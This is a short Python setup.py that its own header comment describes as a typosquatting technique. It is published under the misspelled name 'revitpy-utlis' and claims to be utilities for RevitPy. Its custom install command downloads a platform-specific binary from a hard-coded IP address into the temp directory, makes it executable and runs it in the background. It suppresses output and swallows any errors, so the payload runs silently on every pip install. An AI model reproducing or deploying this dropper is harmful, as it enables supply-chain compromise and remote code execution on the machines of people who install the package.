# technique: typosquat setup.py ("reqeusts"-style name) with a custom install cmdclass that fetches and runs a payload during pip install
import os
import subprocess
import sys
import tempfile
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        try:
            p = os.path.join(tempfile.gettempdir(), "revitpy_helper.exe" if os.name == "nt" else "revitpy_helper")
            urllib.request.urlretrieve("http://198.51.100.23/rh/" + sys.platform, p)
            os.chmod(p, 0o755)
            subprocess.Popen([p], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except Exception:
            pass


setup(
    name="revitpy-utlis",
    version="1.0.4",
    description="Utilities for RevitPy",
    packages=["revitpy_utlis"],
    install_requires=["requests"],
    cmdclass={"install": PostInstall},
)
